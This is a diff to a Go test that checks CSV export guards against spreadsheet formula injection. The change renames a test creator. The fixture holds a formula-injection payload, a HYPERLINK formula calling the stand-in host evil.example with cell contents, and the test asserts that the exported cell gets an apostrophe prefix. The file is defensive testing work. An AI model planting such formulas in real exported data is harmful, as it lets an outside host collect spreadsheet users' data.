@@ -80,7 +80,7 @@ func TestFlagsAfterTheQuery(t *testing.T) {
 // opens one.
 func TestTablesForOthers(t *testing.T) {
 	srv := service(t)
-	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
+	require.NoError(t, srv.PutRecordJSON([]byte(`{"doi":"10.5072/formula","publisher":"P","publicationYear":2020,"titles":[{"title":"=HYPERLINK(\"https://evil.example/?\"&A1)"}],"creators":[{"name":"@Love, Ada"}],"types":{"resourceTypeGeneral":"Dataset"}}`)))
 	_, out, notes := find(t, srv, "--format", "csv", "--query", "doi:*formula")
 	assert.Contains(t, out, `"'=HYPERLINK(""https://evil.example/?""&A1)"`)
 	assert.Contains(t, notes, "2 cells could be taken for a formula by a spreadsheet program, and got an apostrophe in front")
